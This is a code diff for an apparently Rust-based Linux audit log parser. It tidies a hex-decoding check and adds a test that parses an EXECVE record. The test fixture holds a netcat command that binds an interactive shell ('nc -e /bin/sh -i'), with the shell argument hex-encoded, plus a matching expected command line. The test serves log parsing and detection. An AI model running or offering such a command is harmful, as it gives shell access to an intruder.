@@ -132,7 +132,8 @@ fn is_argument(key: &str) -> bool {
 
 /// An argument with a blank or a quote in it is written without quotes, as hexadecimal digits.
 fn unhexed(value: &str) -> Option<String> {
-    let is_hex = value.len() >= 4 && value.len() % 2 == 0 && value.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let is_hex =
+        value.len() >= 4 && value.len().is_multiple_of(2) && value.bytes().all(|byte| byte.is_ascii_hexdigit());
     let digits = is_hex.then_some(value.as_bytes())?;
     let byte = |pair: &[u8]| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok();
     let bytes: Option<Vec<u8>> = digits.chunks_exact(2).map(byte).collect();
@@ -201,6 +202,24 @@ mod tests {
             "<13>Mar  3 09:00:05 db1 kernel: audit: type=1112 audit(1772496000.250:24): pid=9 uid=0 auid=4294967295 \
              msg='op=login acct=\"sato\" addr=192.0.2.9 res=failed'",
             &expected,
+        );
+    }
+
+    #[test]
+    fn a_started_program_with_its_arguments() {
+        check(
+            "type=EXECVE msg=audit(1772496000.250:51): argc=4 a0=\"/usr/bin/nc\" a1=\"-e\" a2=2F62696E2F7368202D69 a3=\"cafe\"",
+            &[
+                ("process.command_line", "/usr/bin/nc -e /bin/sh -i cafe"),
+                ("native.a0", "/usr/bin/nc"),
+                ("native.a2", "/bin/sh -i"),
+                ("native.argc", "4"),
+                ("event.category", "process"),
+            ],
+        );
+        check(
+            "type=SYSCALL msg=audit(1772496000.250:52): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=26 pid=3 auid=1000 comm=\"x\" exe=\"/tmp/x\" key=\"run\"",
+            &[("native.type", "SYSCALL"), ("native.a0", "55d0"), ("native.exe", "/tmp/x"), ("native.key", "run")],
         );
     }
 
